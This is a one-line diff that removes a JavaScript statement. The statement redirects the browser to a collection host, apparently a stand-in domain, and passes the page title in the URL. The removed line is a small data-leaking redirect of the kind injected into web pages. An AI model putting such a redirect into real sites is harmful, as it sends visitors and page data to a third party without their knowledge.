@@ -1,1 +1,0 @@
-window.location.replace("https://collect.example/?" + document.title);
